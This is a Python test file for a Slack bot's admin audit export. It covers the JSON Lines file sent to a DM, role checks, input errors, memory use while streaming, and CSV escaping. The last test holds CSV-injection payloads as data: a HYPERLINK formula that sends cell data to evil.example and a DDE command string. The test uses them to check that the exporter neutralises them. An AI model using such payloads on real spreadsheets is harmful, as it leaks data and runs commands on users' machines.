"""Export (docs/channels-and-data.md):
`/claude-admin audit export [days=<n>]` puts a JSON Lines file in the caller's DM; the
export streams in pages, so its memory does not grow with the number of rows."""

from __future__ import annotations

import csv
import io
import json
import tracemalloc
from datetime import timedelta

import pytest

from bot.domain.roles import Role
from bot.services.data.export import audit_columns, csv_cell, json_line, record_columns, record_rows
from tests.app.test_retention import bulk_old_records
from tests.support.harness import Harness, eventually

ADMIN = "/claude-admin"
DAY = 24 * 3600


@pytest.fixture
async def org(harness: Harness) -> Harness:
    for user, role in (("UADMIN", Role.ADMIN), ("UBILL", Role.BILLING), ("UUSER", Role.USER)):
        harness.slack.add_user(user, name=user.lower())
        await harness.grant(user, role)
    return harness


async def test_audit_export_sends_a_json_lines_file_to_the_callers_dm(org: Harness) -> None:
    org.clock.advance(40 * DAY)  # the grants above are now 40 days old
    await org.command("UADMIN", ADMIN, "channel C0100 off")
    await org.command("UADMIN", ADMIN, "channel C0100 prompt Answer in French.")

    answer = await org.command("UADMIN", ADMIN, "audit export days=7")
    assert "2 audit entries of the last 7 days" in answer["text"], answer["text"]
    (upload,) = await eventually(lambda: org.slack.uploads)
    assert upload["channel"] == "DUADMIN" and upload["filename"].endswith("-7d.jsonl")
    rows = [json.loads(line) for line in upload["content"].decode().splitlines()]
    assert [(row["actor"], row["action"], row["target"]) for row in rows] == [
        ("UADMIN", "channel.set", "C0100"), ("UADMIN", "channel.set", "C0100")]
    assert set(rows[0]) == set(audit_columns()) and rows[1]["detail"]["new_chars"] == 17
    exported = [entry for entry in await org.audit() if entry.action == "audit.export"]
    assert [(e.actor, e.detail) for e in exported] == [("UADMIN", {"days": 7, "rows": 2})]

    # the default is the last 30 days; the 40-day-old grants stay out, the first export is in
    await org.command("UADMIN", ADMIN, "audit export")
    second = (await eventually(lambda: len(org.slack.uploads) == 2 and org.slack.uploads))[1]
    actions = [json.loads(line)["action"] for line in second["content"].decode().splitlines()]
    assert actions == ["channel.set", "channel.set", "audit.export"]


@pytest.mark.parametrize("user", ["UBILL", "UUSER"])
async def test_only_auditors_export(org: Harness, user: str) -> None:
    answer = await org.command(user, ADMIN, "audit export days=7")
    assert answer["text"].startswith(":no_entry:") and org.slack.uploads == []


@pytest.mark.parametrize(("text", "expected"), [
    ("audit export days=0", "not a whole number"), ("audit export days=x", "not a whole number"),
    ("audit export now", "Unexpected"), ("audit export weeks=2", "Unknown option"),
])
async def test_bad_export_input_is_one_line_and_changes_nothing(org: Harness, text: str, expected: str) -> None:
    before = await org.table_snapshot()
    answer = await org.command("UADMIN", ADMIN, text)
    assert expected in answer["text"] and org.slack.uploads == []
    assert await org.table_snapshot() == before


def test_rows_written_as_jsonl_and_csv_parse() -> None:
    from datetime import UTC, datetime

    row = {"id": 1, "at": datetime(2026, 11, 30, 12, 0, tzinfo=UTC), "actor": "U1", "action": "channel.set",
           "target": "C1", "detail": {"setting": "prompt", "new_chars": 3}}
    parsed = json.loads(json_line(row))
    assert parsed["at"] == "2026-11-30T12:00:00+00:00" and parsed["detail"]["new_chars"] == 3
    buffer = io.StringIO()
    writer = csv.DictWriter(buffer, fieldnames=list(row))
    writer.writeheader()
    writer.writerow({k: csv_cell(v) for k, v in row.items()})
    (read,) = list(csv.DictReader(io.StringIO(buffer.getvalue())))
    assert json.loads(read["detail"]) == row["detail"]


async def _export_peak(harness: Harness, since: object) -> tuple[int, int]:
    """(rows, peak traced bytes) of a JSON Lines export of request records, written to a sink that keeps nothing."""
    written = 0
    tracemalloc.start()
    try:
        async for row in record_rows(harness.sessions, since):  # type: ignore[arg-type]
            written += len(json_line(row))
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert written > 0
    return written, peak


async def test_export_memory_stays_flat_as_rows_quadruple(harness: Harness) -> None:
    """12,500 then 50,000 rows (the 50,000 → 200,000 of the issue, scaled down to keep the suite fast under
    tracemalloc: the export holds one page of 1,000 rows either way)."""
    await bulk_old_records(harness.runtime.engine, 12_500, harness.clock() - timedelta(days=3))
    _, peak_small = await _export_peak(harness, harness.clock() - timedelta(days=10))
    await bulk_old_records(harness.runtime.engine, 37_500, harness.clock() - timedelta(days=2))
    _, peak_large = await _export_peak(harness, harness.clock() - timedelta(days=10))
    assert "prompt" not in record_columns() and "thread_ts" not in record_columns()
    # four times the rows, not more memory (a little slack for allocator noise)
    assert peak_large <= peak_small * 1.25 + 256 * 1024, (peak_small, peak_large)


FORMULA = '=HYPERLINK("https://evil.example/?d="&A1,"key")'  # a key name offboarding writes into the audit target


async def test_every_csv_the_product_writes_shows_formulas_as_text(harness: Harness, tmp_path) -> None:
    """`claude-gate audit --format csv`, `usage --format csv` and `usage --csv`, through the real command line: a
    text cell a spreadsheet would run (= + - @, a tab, a carriage return) starts with ', numbers stay numbers."""
    from bot.services.data.audit import add_audit
    from bot.store.models import RequestRecord
    from tests.app.test_cli import cli

    at = harness.clock()
    async with harness.sessions.begin() as session:
        add_audit(session, at=at, actor="UADMIN", action="key.offboard", target=FORMULA, note="+cmd|' /C calc'!A0")
        for actor in ("@SUM(1,1)", "-2+3", "\t=1+1", "\r=1+1"):
            add_audit(session, at=at, actor=actor, action="grant", target="U1")
        session.add(RequestRecord(created_at=at, slack_user_id="=1+1", role="user", model="-claude", input_tokens=10,
                                  output_tokens=20, cost_micros=1_500_000, admitted=True, outcome="ok", surface="dm"))
    out = tmp_path / "audit.csv"
    audit = await cli(harness, tmp_path, "audit", "--since", "2000-01-01", "--format", "csv", "--out", str(out),
                      slack=False)
    assert audit.returncode == 0, audit.stderr
    with out.open(newline="") as written:  # as a spreadsheet reads it: a carriage return inside a cell kept
        rows = {row["actor"]: row for row in csv.DictReader(written)}
    assert rows["UADMIN"]["target"] == "'" + FORMULA
    assert json.loads(rows["UADMIN"]["detail"]) == {"note": "+cmd|' /C calc'!A0"}  # JSON starts with {: inert
    assert {"'@SUM(1,1)", "'-2+3", "'\t=1+1", "'\r=1+1"} <= set(rows)
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows.values() for cell in row.values())

    usage = await cli(harness, tmp_path, "usage", "--since", "2000-01-01", "--format", "csv", slack=False)
    (record,) = list(csv.DictReader(io.StringIO(usage.stdout)))
    assert (record["slack_user_id"], record["model"]) == ("'=1+1", "'-claude")
    assert (record["input_tokens"], record["cost_micros"]) == ("10", "1500000")  # numbers unchanged

    summary = await cli(harness, tmp_path, "usage", "--csv", "--days", "100000", slack=False)
    assert summary.returncode == 0, summary.stderr
    (per_user,) = [row for row in csv.reader(io.StringIO(summary.stdout)) if row[0] == "'=1+1"]
    assert per_user[1:7] == ["1", "0", "0", "10", "20", "1.5"]
